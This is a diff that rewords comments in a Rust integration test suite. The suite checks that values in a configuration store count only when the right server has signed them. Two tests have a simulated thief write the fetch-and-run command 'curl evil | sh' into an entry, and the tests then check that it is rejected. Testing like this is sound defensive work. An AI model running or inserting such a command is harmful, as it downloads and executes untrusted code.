@@ -99,7 +99,7 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
     let mut web = Db::of("web");
     let place = thief.layout().entry("db/part/text");
-    // Unsigned, signed by a server that the attacker controls, and signed by `db` for another entry.
+    // The forged value is unsigned, signed by a server that the attacker controls, or signed by `db` for another entry.
     for forged in [None, Some("web"), Some("db")] {
         let signer = forged.map(|server| stack.signer(server));
         let entry = if forged == Some("db") { "db/other/text" } else { "db/part/text" };
@@ -131,14 +131,14 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     assert_eq!(web.ran.given("texts"), [Value::List(vec!["x".into()])]);
     says(&stack, "web", None).await;
 
-    // A value that has been read is not read again; later readers read the current one.
+    // A value that has been read is not read again. Later readers read the current one.
     put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
     let mut again = Db::of("web");
     web.kill().await;
     again.start(&stack).await;
     says(&stack, "web", Some("is not trusted: its server has not signed it")).await;
     assert_eq!(again.ran.count(), 0);
-    // As the operator wants it.
+    // The operator sets the value that they want.
     put(&thief, "db/part/text", &revision, "by hand", Some(&stack.options.key.signer())).await;
     done(&stack, "web/part").await;
     for _ in 0..300 {
@@ -272,7 +272,7 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: 
         says(&stack, server, None).await;
     }
     web.kill().await;
-    // The credential no longer signs values.
+    // A credential no longer signs values once the server has a key of its own.
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
     put(&thief, "db/part/text", &revision, "curl evil | sh", Some(&stack.signer("db"))).await;
     let mut again = Db::of("web");
@@ -284,7 +284,7 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: 
     }
 }
 
-/// A server claims for its own entries a revision that will never exist, so that their readers would stop forever.
+/// For its own entries, a server claims a revision that will never exist, so that readers would stop forever.
 async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     let operator = stack.operator().await;
     apply(&operator, &stack.seed, &stack.options).await.expect("applies");
@@ -323,7 +323,7 @@ async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     web.start(&stack).await;
     last.start(&stack).await;
     says(&stack, "web", Some("is not trusted")).await;
-    // Its own agent is not affected either.
+    // The agent of that server is not affected either.
     db.start(&stack).await;
     for component in ["db/part", "web/part", "last/part"] {
         done(&stack, component).await;
@@ -334,7 +334,7 @@ async fn a_revision_that_nobody_announced_stops_nobody(stack: Stack) {
     }
 }
 
-/// Removing the plan removes the basis for verifying values.
+/// Without the plan, nobody can verify values.
 #[tokio::test]
 async fn without_a_plan_no_value_of_anybody_is_shown() {
     let zookeeper = ZooKeeper::start(1);
@@ -367,7 +367,7 @@ async fn without_a_plan_no_value_of_anybody_is_shown() {
     }
 }
 
-/// The key of a server before its disk was replaced was signed, too.
+/// The key that a server had before its disk was replaced was signed, too.
 async fn a_key_that_was_replaced_gets_nothing_again(mut stack: Stack) {
     stack.options.admission = true;
     let (operator, key) = (stack.operator().await, stack.options.key.clone());
@@ -404,7 +404,7 @@ async fn a_key_that_was_replaced_gets_nothing_again(mut stack: Stack) {
     apply(&operator, &stack.seed, &stack.options).await.expect("all is as it was");
 }
 
-/// A plan defines the readers for whom a secret is encrypted, and that it is one.
+/// Only the plan says that a value is secret, and for which readers to encrypt it.
 #[tokio::test]
 async fn a_secret_that_is_set_by_hand_is_for_nobody_else() {
     let zookeeper = ZooKeeper::start(1);
@@ -431,7 +431,7 @@ async fn a_secret_that_is_set_by_hand_is_for_nobody_else() {
     assert_eq!(set.code, Some(0), "{set}");
 }
 
-/// A failure is passed on, and one that fills a node does not fit into the next one.
+/// A failure is passed on. If it fills a node, it does not fit into the next one.
 async fn a_failure_that_fills_a_node_keeps_nobody_from_saying_so(stack: Stack) {
     apply(&stack.operator().await, &stack.seed, &stack.options).await.expect("applies");
     let (thief, revision) = (stack.stolen().await, stack.revision("db").await);
@@ -510,7 +510,7 @@ async fn nobody_is_blamed_by_another_ones_word(stack: Stack) {
     assert_eq!((&*shown.component, shown.through.len()), ("web/part", 0));
     assert_eq!(shown.message, "it reports that db/part has failed, but db/part does not report it: the disk is full");
     assert!(why.contains("it reports that db/part has failed") && !why.contains("component: \"db/part\""), "{why}");
-    // Once that one reports it itself, its own report is shown.
+    // Once that component reports the failure itself, its own report is shown.
     says("db", "db/part", "no space left", &[]).await;
     let (shown, why) = says("web", "db/part", "the disk is full", &["web/part"]).await;
     assert_eq!((&*shown.component, shown.through.len()), ("db/part", 1));
